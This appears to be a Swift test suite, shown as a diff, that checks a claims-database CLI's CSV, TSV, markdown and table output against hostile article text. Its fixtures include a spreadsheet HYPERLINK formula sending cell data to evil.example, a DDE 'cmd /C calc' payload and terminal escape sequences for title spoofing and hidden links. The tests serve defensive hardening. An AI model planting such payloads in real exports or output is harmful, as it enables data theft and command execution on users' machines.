@@ -1,0 +1,102 @@
+import Foundation
+import GRDB
+import Testing
+
+/// Text from articles is data wherever it is printed: a line break in a cell never starts a
+/// row, a cell that starts like a formula is not run by a spreadsheet, and escape sequences
+/// reach a terminal as visible text. The articles of `Fixtures/xref` are stored, then their
+/// titles, URLs, outlets, sentences and figure texts are made hostile in place, so that the
+/// tests hold the output whatever the normalizers let through.
+@Suite(.serialized) struct HostileTextOutputTests {
+    let db: String
+
+    /// Written into the database before each test; each column starts as a formula would.
+    static let title = "@SUM(A1) \u{1B}]0;pwned\u{07}\u{1B}]8;;http://evil.example/\u{1B}\\link\u{1B}]8;;\u{1B}\\ "
+    static let sentence = "=HYPERLINK(\"http://evil.example/\"&A1) \u{1B}[2J\u{1B}[H\u{08}\u{08}\u{9B}31m\u{7F} "
+    static let figure = "-1+2 A\r\n=1+2\u{2028}b\u{2029}c\u{85}d\u{0B}f\u{0C}g\u{1E}h"
+    static let url = "\t=cmd|' /C calc'!A0 "
+    static let outlet = "\r+cmd "
+    /// Every scalar that starts a new line somewhere: in a terminal, a spreadsheet, an editor
+    /// or Python's `str.splitlines`.
+    static let lineBreaks: Set<Unicode.Scalar> = ["\n", "\r", "\u{0B}", "\u{0C}", "\u{1C}", "\u{1D}", "\u{1E}", "\u{85}", "\u{2028}", "\u{2029}"]
+
+    init() throws {
+        db = try TestPaths.scratch().appendingPathComponent("claims.db").path
+        let run = try CLI.run(["ingest", "--db", db, TestPaths.fixture("xref").path])
+        #expect(run.status == 0, "\(run.stderr)")
+        try DatabaseQueue(path: db).write { db in
+            try db.execute(sql: "UPDATE articles SET title = ? || coalesce(title, ''), url = ? || coalesce(url, ''), outlet = ?",
+                           arguments: [Self.title, Self.url, Self.outlet])
+            try db.execute(sql: "UPDATE claims SET text = ? || text", arguments: [Self.sentence])
+            try db.execute(sql: "UPDATE figures SET text = ? || text", arguments: [Self.figure])
+        }
+    }
+
+    private func run(_ arguments: [String]) throws -> String {
+        let run = try CLI.run(arguments + ["--db", db])
+        #expect(run.status == 0, "\(arguments): \(run.stderr)")
+        return run.stdout
+    }
+
+    /// How many rows the JSON output of the same command has.
+    private func rowCount(_ arguments: [String]) throws -> Int {
+        let rows = try #require(try CLI.json(try run(arguments + ["--format", "json"])) as? [Any])
+        #expect(rows.count > 1, "\(arguments)")
+        return rows.count
+    }
+
+    /// The lines of `text`, split at every line break scalar (CR LF once).
+    static func lines(_ text: String) -> [String] {
+        var lines: [String] = []
+        var line = String.UnicodeScalarView()
+        var previous: Unicode.Scalar = " "
+        for scalar in text.unicodeScalars {
+            if lineBreaks.contains(scalar) {
+                if !(scalar == "\n" && previous == "\r") { lines.append(String(line)) }
+                line = String.UnicodeScalarView()
+            } else {
+                line.append(scalar)
+            }
+            previous = scalar
+        }
+        if !line.isEmpty { lines.append(String(line)) }
+        return lines
+    }
+
+    /// The records of CSV, where only a LF (or CR LF) outside quotes ends one, and how many
+    /// other line breaks stand outside quotes, where some reader would start a row.
+    static func csvRecords(_ text: String) -> (count: Int, strayBreaks: Int) {
+        var records = 0, stray = 0
+        var quoted = false
+        var previous: Unicode.Scalar = " "
+        for scalar in text.unicodeScalars {
+            if scalar == "\"" { quoted.toggle() }
+            if !quoted && scalar == "\n" { records += 1 }
+            if !quoted && lineBreaks.contains(scalar) && scalar != "\n" && scalar != "\r" { stray += 1 }
+            if !quoted && previous == "\r" && scalar != "\n" { stray += 1 }
+            previous = scalar
+        }
+        return (records, stray)
+    }
+
+    @Test func aLineBreakInACellNeverStartsARow() throws {
+        for command in [["find"], ["xref"], ["sql", "SELECT c.text, f.text AS figure, a.title FROM figures f JOIN claims c ON c.id = f.claim_id JOIN articles a ON a.id = c.article_id"]] {
+            let rows = try rowCount(command)
+            let csv = try run(command + ["--format", "csv"])
+            #expect(Self.csvRecords(csv) == (rows + 1, 0), "\(command) csv")
+            #expect(try OutputFormatTests.csv(csv).count == rows + 1, "\(command) csv")
+            let tsv = Self.lines(try run(command + ["--format", "tsv"]))
+            #expect(tsv.count == rows + 1, "\(command) tsv")
+            #expect(Set(tsv.map { $0.split(separator: "\t", omittingEmptySubsequences: false).count }).count == 1, "\(command) tsv")
+            // a header and a rule, then the rows
+            #expect(Self.lines(try run(command + ["--format", "markdown"])).count == rows + 2, "\(command) markdown")
+            #expect(Self.lines(try run(command + ["--format", "table"])).count == rows + 2, "\(command) table")
+        }
+        let figures = try #require(try CLI.json(try run(["sql", "SELECT count(*) AS n FROM figure_details", "--format", "json"])) as? [[String: Any]])
+        let export = try run(["export", "--format", "csv"])
+        #expect(Self.csvRecords(export) == ((figures.first?["n"] as? Int ?? 0) + 1, 0))
+        // the cells hold the text as stored
+        let stored = try OutputFormatTests.csv(try run(["find", "--format", "csv"])).dropFirst().map { $0[4] }.filter { !$0.isEmpty }
+        #expect(!stored.isEmpty && stored.allSatisfy { $0.contains(String(Self.figure.unicodeScalars.dropFirst(4))) }, "\(stored)")
+    }
+}
